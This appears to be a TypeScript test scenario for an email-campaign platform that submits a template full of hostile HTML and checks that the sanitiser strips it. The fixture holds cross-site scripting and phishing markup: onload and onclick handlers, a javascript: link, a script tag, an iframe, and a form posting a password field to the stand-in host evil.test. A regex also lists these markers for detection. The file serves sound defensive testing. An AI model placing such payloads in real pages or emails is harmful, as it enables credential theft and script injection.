import { requestRun } from './runs.ts'
import type { Scene } from './scene.ts'
import type { ReportRow } from './table.ts'

/** Content with hostile markup: the text and the safe parts are kept, the rest must be removed. */
const hostile = {
  subject: 'An invitation for {{ first_name }}',
  personalization_defaults: { first_name: 'you' },
  html: `<html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">
<style>@import url(https://evil.test/x.css); @media (max-width: 480px) { .page { padding: 12px } } .page { position: fixed; behavior: url(x.htc) }</style></head>
<body onload="steal()"><div class="page">
  <h1>Come and see us, {{ first_name }}</h1>
  <p><a href="javascript:steal()">Yes</a> or <a href="https://www.acme.test/events" onclick="steal()">tell me more</a></p>
  <iframe src="https://evil.test"></iframe><svg onload="steal()"></svg>
  <form action="https://evil.test"><input name="password"></form>
  <img src="data:text/html,steal" alt=""><script>steal()</script>
  <p><a href="{{ unsubscribe_url }}">Unsubscribe</a></p>
</div></body></html>`,
}
const forbidden =
  /script|steal|evil|iframe|svg|<form|<input|@import|position|behavior|onload|onclick|data:|refresh|<base/i
const kept = ['Come and see us', 'https://www.acme.test/events', '@media (max-width', '{{ unsubscribe_url }}']

interface Content {
  id: string
  validation: { stripped: Record<'tags' | 'attributes' | 'css_properties' | 'protocols', string[]> }
}

/**
 * Stores hostile content, which is sanitised with a list of the removed parts. A campaign cannot be scheduled while its template
 * is archived. Returns the id of the content.
 */
export async function cleanContent(
  scene: Scene,
  draft: { audience_id: string; sender_identity_id: string },
): Promise<{ rows: ReportRow[]; contentId: string }> {
  const { api, browser, workspace, atConsole, round, print } = scene
  const { email_template: template } = await api.ok<{ email_template: { id: string } }>(
    'POST',
    `${workspace}/email-templates`,
    { name: `Invitation ${round}`, slug: `invitation-${round}` },
  )
  const path = `${workspace}/email-templates/${template.id}`
  const { content_version: content } = await api.ok<{ content_version: Content }>('POST', `${path}/versions`, hostile)
  const { tags, attributes, css_properties: css, protocols } = content.validation.stripped
  print(
    `removed: <${tags.join('>, <')}>; ${[...attributes, ...css, ...protocols.map((name) => `${name}:`)].join(', ')}`,
  )
  const { content_version: stored } = await browser.ok<{ content_version: { sanitized_html: string } }>(
    'GET',
    `${atConsole}/content-versions/${content.id}`,
  )
  const html = stored.sanitized_html

  const archive = (body: object) => api.ok<{ archived: boolean }>('POST', `${path}/archive`, body)
  await archive({})
  const { campaign } = await api.ok<{ campaign: { id: string } }>('POST', `${workspace}/campaign-drafts`, {
    name: `With an archived template ${round}`,
    content_version_id: content.id,
    ...draft,
  })
  const refused = await requestRun(scene, campaign.id, new Date(Date.now() + 3_600_000))
  print(`scheduling checks eleven conditions; an archived template fails one: “${refused.text}”`)
  await archive({ archived: false })
  return {
    contentId: content.id,
    rows: [
      {
        name: 'kinds of removed parts',
        actual: tags.length + attributes.length + css.length + protocols.length,
        expected: 14,
      },
      {
        name: 'hostile parts left in the sanitised content',
        actual: forbidden.exec(html)?.[0] ?? 'nothing',
        expected: 'nothing',
      },
      {
        name: 'words, links and media query kept',
        actual: kept.filter((part) => html.includes(part)).length,
        expected: kept.length,
      },
      { name: 'scheduling with an archived template', actual: refused.status, expected: 422 },
    ],
  }
}
